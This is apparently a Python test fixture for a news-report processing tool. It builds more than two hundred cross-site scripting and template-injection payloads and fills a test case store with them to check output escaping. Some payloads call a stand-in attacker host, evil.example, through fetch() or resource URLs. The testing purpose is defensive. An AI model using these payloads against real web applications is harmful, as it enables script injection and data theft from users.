"""Payloads that reports may smuggle in, and a case that is full of them."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

from tests.conftest import a_report

from depesche.errors import ReportError
from depesche.records import Actor, Figure, Header, Position, Published, Report, Statement, Talk, record_id
from depesche.run.relating import relate
from depesche.store.case import Case

_RUN = "window.hit=1;alert(1)"
_SHAPES = [
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<scr<script>ipt>{0}</script>",
    "</script><script>{0}</script>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "--><script>{0}</script><!--",
    "]]><script>{0}</script>",
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<img src=x onerror={0}>",
    '"><img src=x onerror={0}>',
    "' onmouseover={0} x='",
    '" autofocus onfocus={0} x="',
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src=javascript:{0}></iframe>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<a href=javascript:{0}>x</a>",
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "data:text/html,<script>{0}</script>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<input type=image src=x onerror={0}>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={0}></style></mglyph></math>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "{{% for x in [] %}}{0}",
    "${{{0}}}",
    "<%= {0} %>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}",
    "\u202e<script>{0}</script>\u202c",
    "<scr\u200bipt>{0}</scr\u200bipt>",
    "<script\x0c>{0}</script>",
    "<script/x>{0}</script>",
    "<link rel=stylesheet href=https://evil.example/{0}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{0}'>",
    "<base href=https://evil.example/><script src={0}>",
    "<style>@import 'https://evil.example/{0}'</style>",
    "<p style='background:url(https://evil.example/{0})'>",
    "<img src=https://evil.example/{0}>",
]
_CALLS = [_RUN, "window.hit=2", "eval('window.hit=3')", "fetch('https://evil.example/')"]
PAYLOADS = [shape.format(call) for call in _CALLS for shape in _SHAPES]
"""More than two hundred."""


def _report(number: int, payload: str) -> Report:
    text = f"{payload}\n\nIn Genf sagte {payload} am Montag, man wolle {payload} reden.\n"
    report = replace(a_report(text, f"{number:03}-{payload[:60].replace('/', '_')}.txt"), language="de")
    at = text.index("man wolle")
    words, place = report.span(at, len(text) - 2), (report.span(text.index("In Genf"), text.index("In Genf") + 7),)
    ids = (
        record_id(report.digest, kind, (words,), number)
        for kind in ("statement", "actor", "talk", "position", "figure")
    )
    said, actor, talk, position, figure = ids
    return replace(
        report,
        header=Header(Published("2031-03-04"), payload, (payload,), (payload,), title=payload),
        statements=(
            Statement(said, "indirect", (words,), actor=payload, act="offer", why=payload, confidence=number / 1000),
        ),
        actors=(
            Actor(actor, payload, "person", (payload, f"{payload} x"), role=payload, acts_for=payload, mentions=place),
        ),
        talks=(Talk(talk, payload, (payload, "Karvelien"), "planned", place, place=payload, date="2031-03-05"),),
        positions=(Position(position, payload, "demand", payload, "pro", (words,), issue_text=payload),),
        figures=(Figure(figure, words, 3.0, payload, payload),),
    )


@contextmanager
def hostile_case(path: Path, payloads: Sequence[str]) -> Iterator[Case]:
    """A case whose reports, records and relations are made of payloads."""
    with Case.open(path, create=True) as case:
        for number, payload in enumerate(payloads):
            case.put(_report(number, payload), reader="hostile")
        case.fail(payloads[0], payloads[0], None, _fault(payloads[0]))
        relate(case)
        yield case


def _fault(payload: str) -> ReportError:
    return ReportError(payload, where=payload, hint=payload)
